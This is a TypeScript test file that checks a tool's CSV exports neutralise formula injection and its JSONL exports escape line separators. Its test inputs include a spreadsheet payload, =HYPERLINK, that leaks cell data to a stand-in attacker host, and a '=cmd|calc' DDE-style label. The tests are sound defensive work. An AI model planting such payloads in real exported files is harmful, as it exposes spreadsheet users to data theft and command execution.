// Attack: text from imported data (a model id, a run name, a chart label) written into a CSV must
// open as text, never as a live formula; JSONL lines must stay one line for every line reader.
import { describe, expect, it } from 'vitest';
import { chartCsv } from '../../src/app/charts/chart-csv.ts';
import { compareRuns } from '../../src/analysis/compare-runs.ts';
import { comparisonCsv } from '../../src/formats/export/comparison-csv.ts';
import { jsonLine, parseJsonLines, toJsonLines } from '../../src/formats/export/files.ts';
import { csvField } from '../../src/formats/export/tabular-export.ts';
import { meta, run } from '../analysis/compared-runs.ts';

const FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")';
// Every character a line reader may split on (Python's str.splitlines() splits on \n, \r, \v, \f, U+001C-U+001E, U+0085, U+2028 and U+2029).
const LINE_BREAKING = /[\p{Cc}\p{Zl}\p{Zp}]/u;

describe('CSV cells from data', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'])('%j gets a leading quote', (text) => {
    const field = csvField(text);
    const unquoted = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
    expect(unquoted).toBe(`'${text}`);
  });

  it('numbers, negative ones included, and ordinary text are written as they are', () => {
    expect([csvField(-0.5), csvField(-3), csvField('Logical Deduction'), csvField('a=b'), csvField(null)]).toEqual([
      '-0.5',
      '-3',
      'Logical Deduction',
      'a=b',
      '',
    ]);
  });

  it("the comparison's CSV writes an imported model id and run label as text", () => {
    const comparison = compareRuns([run('=cmd|calc', meta({}, { modelId: FORMULA })), run('b', meta())]);
    const rows = comparisonCsv(comparison).split('\n');
    expect(rows[1]!.startsWith("'=cmd|calc,")).toBe(true);
    expect(rows[1]).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""click"")"`);
    expect(rows.every((row) => !/(^|,)"?[=+@-]/.test(row))).toBe(true);
  });

  it("a chart's CSV writes a series label as text", () => {
    const csv = chartCsv({
      id: 'c',
      title: 't',
      description: '',
      yLabel: '',
      epochs: [1],
      series: [{ label: '@evil', values: [-1], colorIndex: 0 }],
      digits: 2,
      softRange: [0, 1],
    });
    expect(csv).toBe("epoch,'@evil\n1,-1\n");
  });
});

describe('JSONL and line separators', () => {
  const rows = [{ text: 'a\u2028b\u2029c\u0085d', nested: ['\u2028'], plain: 'x\ny\u0001' }, { n: 1 }];

  it('writes U+2028, U+2029 and U+0085 as escapes: one line per row for every line reader', () => {
    const text = toJsonLines(rows);
    expect(text.split('\n')).toHaveLength(rows.length + 1);
    expect(text.replaceAll('\n', '')).not.toMatch(LINE_BREAKING);
    expect(jsonLine('\u2028')).toBe('"\\u2028"');
  });

  it('reads them back identically', () => {
    const { rows: read, problems } = parseJsonLines(toJsonLines(rows), 'x.jsonl');
    expect(problems).toEqual([]);
    expect(read.map((r) => r.value)).toEqual(rows);
  });

  it('still reads lines an older writer wrote with the raw characters', () => {
    const old = rows.map((r) => JSON.stringify(r) + '\n').join('');
    expect(old).toMatch(/\u2028/);
    expect(parseJsonLines(old, 'x.jsonl').rows.map((r) => r.value)).toEqual(rows);
  });
});
